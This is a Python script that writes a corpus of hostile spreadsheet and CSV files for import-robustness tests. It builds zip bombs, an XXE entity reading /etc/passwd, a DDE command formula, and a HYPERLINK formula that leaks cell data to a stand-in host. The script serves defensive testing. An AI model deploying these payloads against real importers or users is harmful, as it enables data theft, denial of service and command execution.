"""Write the corpus of hostile import files in tests/data/hostile/ (each well under 1 MB).

    python tools/make_hostile_files.py            # rebuild them all (deterministic)

Every file is fed to every file intake by tests/core/test_hostile_files.py, which expects a clear
error, bounded memory and time, and no row written. What each file attacks is in docs/imports.md.
"""

from __future__ import annotations

import random
import struct
import sys
import zipfile
from collections.abc import Iterable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from jisr.centers.importexport.columns import COLUMNS as CENTER_COLUMNS  # noqa: E402
from jisr.registry.importing.format import COLUMNS as HOUSEHOLD_COLUMNS  # noqa: E402
from jisr.registry.importing.format import MEMBER_COLUMNS  # noqa: E402

OUT = ROOT / "tests" / "data" / "hostile"
# One header naming the columns of every intake, so that each one reads the rows and meets the attack.
HEADER = list(dict.fromkeys([*CENTER_COLUMNS, *HOUSEHOLD_COLUMNS, *MEMBER_COLUMNS]))
SAMPLE = {
    "code": "hostile-1", "name_ar": "مركز", "name_fr": "Centre", "organization": "EN", "kind": "women",
    "commune_code": "09.001.01.01", "household_id": "HOSTILE-1", "area": "urban", "size": "4", "head_sex": "M",
    "head_age": "40", "head_schooling_years": "6", "head_employed": "1", "children_under_15": "1",
    "elderly_over_60": "0", "members_with_disability": "0", "housing": "traditional_house", "rooms": "2",
    "occupancy": "owner", "water": "piped", "electricity": "1", "sanitation": "sewer", "has_fridge": "1",
    "has_tv": "1", "has_car": "0", "has_computer": "0", "water_spending": "50", "electricity_spending": "80",
    "phone_spending": "40", "declared_on": "2024-03-05", "source": "RSU", "member_no": "1", "relation": "head",
    "sex": "M", "birth_date": "1980-01-01", "schooling": "primary", "occupation": "employed", "disability": "0",
    "first_name_ar": "محمد", "last_name_ar": "العلوي",
}  # fmt: skip
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "=1+1"]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _row(**values: str) -> list[str]:
    return [values.get(name, SAMPLE.get(name, "")) for name in HEADER]


def _csv_line(cells: Iterable[str]) -> str:
    # Quoted only when a comma or a line break requires it: a lone quote stays as the attack wrote it.
    return ",".join('"' + cell.replace('"', '""') + '"' if any(c in cell for c in ",\n") else cell for cell in cells)


def _csv(rows: list[list[str]]) -> str:
    return "\n".join(_csv_line(cells) for cells in [HEADER, *rows]) + "\n"


def _column(index: int) -> str:
    name = ""
    while index:
        index, remainder = divmod(index - 1, 26)
        name = chr(65 + remainder) + name
    return name


def _workbook(path: Path, sheet: Iterable[bytes], shared: list[str] | None = None, doctype: bytes = b"") -> None:
    """A minimal XLSX written part by part, the sheet streamed (never whole in memory)."""
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
        b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
        "</sheets></workbook>".encode(),
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.'
        b'org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        b'Target="sharedStrings.xml"/></Relationships>',
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        with archive.open("xl/sharedStrings.xml", "w") as target:
            target.write(f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}">'.encode())
            for text in shared or []:
                target.write(b"<si><t>")
                for start in range(0, len(text), 1 << 20):
                    target.write(text[start : start + (1 << 20)].encode())
                target.write(b"</t></si>")
            target.write(b"</sst>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as target:
            target.write(b'<?xml version="1.0" encoding="UTF-8"?>' + doctype)
            target.write(f'<worksheet xmlns="{MAIN}"><sheetData>'.encode())
            for piece in sheet:
                target.write(piece)
            target.write(b"</sheetData></worksheet>")


def _shared_row(number: int, indexes: list[int]) -> bytes:
    cells = "".join(f'<c r="{_column(i + 1)}{number}" t="s"><v>{index}</v></c>' for i, index in enumerate(indexes))
    return f'<row r="{number}">{cells}</row>'.encode()


def _inline_row(number: int, cells: list[str]) -> bytes:
    xml = "".join(f'<c r="{_column(i + 1)}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
                  for i, text in enumerate(cells) if text)  # fmt: skip
    return f'<row r="{number}">{xml}</row>'.encode()


def zip_bomb(path: Path) -> None:
    """One cell of ~200 MB: a 200 MB shared string compresses to ~200 KB."""
    shared = [*HEADER[:27], "A" * 200_000_000]
    _workbook(path, [_shared_row(1, list(range(27))), _shared_row(2, [27] + [0] * 26)], shared)


def many_rows(path: Path) -> None:
    """300,000 rows of 27 cells in a few hundred KB: every cell the same shared string, and no cell
    references (they are optional), so that every row is the same bytes."""
    row = b"<row>" + b'<c t="s"><v>27</v></c>' * 27 + b"</row>"
    _workbook(path, [_shared_row(1, list(range(27))), *[row * 1000] * 300], [*HEADER[:27], "0"])


def lying_directory(path: Path) -> None:
    """A bomb whose central directory and local headers declare small sizes (the first check passes)."""
    zip_bomb(path)
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            size_at = start + offset
            declared = struct.unpack_from("<I", data, size_at)[0]
            if declared in (0xFFFFFFFF,) or declared > 10_000_000:
                struct.pack_into("<I", data, size_at, 1000)
            start += 4
    path.write_bytes(bytes(data))


def xxe(path: Path) -> None:
    """A sheet that declares an external entity reading /etc/passwd into a cell."""
    doctype = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    _workbook(path, [_inline_row(1, HEADER), _inline_row(2, _row(source="&xxe;"))], doctype=doctype)


def truncated(path: Path) -> None:
    """A workbook cut in the middle (an interrupted download)."""
    _workbook(path, [_inline_row(1, HEADER), *(_inline_row(n, _row(household_id=f"T-{n}")) for n in range(2, 400))])
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    zip_bomb(OUT / "zip-bomb-one-cell.xlsx")
    many_rows(OUT / "rows-300000.xlsx")
    lying_directory(OUT / "zip-bomb-lying-directory.xlsx")
    xxe(OUT / "xml-external-entity.xlsx")
    truncated(OUT / "truncated.xlsx")
    (OUT / "field-200000-chars.csv").write_text(_csv([_row(source="x" * 200_000, name_fr="x" * 200_000)]), "utf-8")
    lines = _csv([_row(name_fr="Centre", source="RSU")] * 3).splitlines()
    mixed = b"\n".join(
        [
            lines[0].encode(),
            _csv_line(_row(code="ar-utf8", source="مسح ميداني")).encode("utf-8"),
            _csv_line(_row(code="ar-1256", source="مسح ميداني")).encode("cp1256"),
            _csv_line(
                _row(
                    code="fr-latin1",
                    name_fr="Centre de l'Oriental, été",
                    name_ar="",
                    first_name_ar="",
                    last_name_ar="",
                    first_name_latin="Saïd",
                    last_name_latin="Alaoui",
                )
            ).encode("latin-1"),
        ]
    )
    (OUT / "mixed-utf8-cp1256-latin1.csv").write_bytes(mixed + b"\n")  # fmt: skip
    formulas = [_row(code=f, household_id=f, commune_code=f, organization=f, member_no=f, cin=f,
                     civil_register_id=f, name_fr=f, source=f) for f in FORMULAS]  # fmt: skip
    (OUT / "formula-cells.csv").write_text(_csv(formulas), "utf-8")
    wide = [f"column_{n}" for n in range(1, 301)]
    (OUT / "columns-300.csv").write_text(",".join(wide) + "\n" + ",".join("1" * 300) + "\n", "utf-8")
    noise = random.Random(9).randbytes(4096)  # noqa: S311 — noise, not a secret
    (OUT / "binary-with-nul.csv").write_bytes(b"code,name\n" + noise + b"\0\0\0" + noise)
    (OUT / "utf16-without-bom.csv").write_bytes(_csv([_row(source="مسح ميداني")]).encode("utf-16-le"))
    rows = [_row(code=f"c-{n}", household_id=f"Q-{n}") for n in range(2, 121)]
    rows[50] = _row(code="c-52", household_id="Q-52", source='"RSU')  # line 52: a quote opens and never closes
    rows[100] = _row(code="c-102", household_id="Q-102", source='RSU 2"')  # line 102: a quote ends a value
    (OUT / "stray-quote-line-52.csv").write_text(_csv(rows), "utf-8")
    rows = [_row(code=f"f-{n}", household_id=f"F-{n}") for n in range(2, 60)]
    rows[28] = [*rows[28], "extra", "fields"]  # line 30
    (OUT / "too-many-fields-line-30.csv").write_text(_csv(rows), "utf-8")
    for path in sorted(OUT.iterdir()):
        if path.stat().st_size >= 1024 * 1024:
            raise SystemExit(f"{path} is over 1 MB: the corpus must stay small")
        print(f"{path.stat().st_size:>9,}  {path.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
